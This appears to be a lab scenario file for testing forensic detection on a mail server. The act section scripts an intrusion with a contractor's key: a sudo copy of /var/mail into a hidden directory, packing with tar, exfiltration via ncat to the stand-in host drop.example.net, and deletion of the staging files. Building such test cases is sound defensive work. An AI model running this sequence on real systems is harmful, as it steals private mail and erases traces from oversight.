title="A contractor's login copies the spool directory and sends it off, on a host that watches only /var/mail and /home"
what="Somebody comes in from 203.0.113.90 with the key of the maintenance contractor wartung, copies /var/mail by sudo into /opt/.plesk-tmp, packs it with bzip2, sends it with ncat to drop.example.net:9001 and removes it. The host has audit watches on /var/mail and /home and nothing else. Helga reads her own box, mail is delivered."
host=mx1.example.org user=wartung store=mbox daemons="cron sshd" audit_rules=audit-none.rules
people="helga wartung bernd silke"
aliases='postmaster: root\nroot: wartung\ninfo: helga, silke\nabuse: root\n'
audit_extra=$'-w /var/mail -p rwa -k mailwatch\n-w /home -p wa -k homewatch'
setup() { echo 'wartung ALL=(root) NOPASSWD: ALL' > /etc/sudoers.d/wartung; chmod 440 /etc/sudoers.d/wartung; }
act() {
  local n
  for n in 1 2 3 4 5; do mail_in --from "kanzlei$n@example.net" --to helga@example.org --to bernd@example.org --to silke@example.org --subject "Mandat $n" --source 203.0.113.2$n --helo host2$n.example.net; done
  small_talk 3
  console_as helga <<'L'
from
printf 'p\nq\n' | bsd-mailx
echo notiz >> notizen.txt
L
  python3 "$lab/lib/type.py" -- nsenter -t "$outside_pid" -n -- ssh -tt -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BindAddress=203.0.113.90 -i /root/key wartung@$host_ip <<'L'
df -h /
sudo ls -la /var/mail
sudo cp -a /var/mail /opt/.plesk-tmp
sudo tar -C /opt -cjf /opt/.pt.tbz .plesk-tmp
sudo sh -c 'ncat --send-only drop.example.net 9001 < /opt/.pt.tbz'
sudo rm -rf /opt/.plesk-tmp /opt/.pt.tbz
L
  small_talk 2
}
truth() {
  file_step copy 'cp openat:read .*/var/mail/bernd' 'the copy reads bernd'"'"'s spool'
  file_step copy2 'cp openat:read .*/var/mail/(helga|silke)' 'and others'
}
